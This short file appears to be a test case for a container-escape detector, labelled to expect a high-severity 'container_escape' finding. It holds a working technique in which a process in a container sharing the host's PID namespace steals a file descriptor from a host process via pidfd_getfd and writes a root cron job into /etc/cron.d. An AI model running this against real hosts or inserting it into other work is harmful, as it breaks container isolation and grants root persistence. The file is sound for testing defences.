# about: a descriptor is taken out of a process of the host, and a cron job written to it
# expect: container_escape high
# where: container
# needs: docker
touch /etc/cron.d/taken; setsid sleep 20 3>>/etc/cron.d/taken & VICTIM=$!
sleep 0.2
container --pid=host $RIGHTS -- python3 -c "import ctypes,os
l=ctypes.CDLL(None); p=os.pidfd_open($VICTIM); f=l.syscall(438,p,3,0); os.write(f,b'* * * * * root id\n')"
kill $VICTIM
grep -q root /etc/cron.d/taken
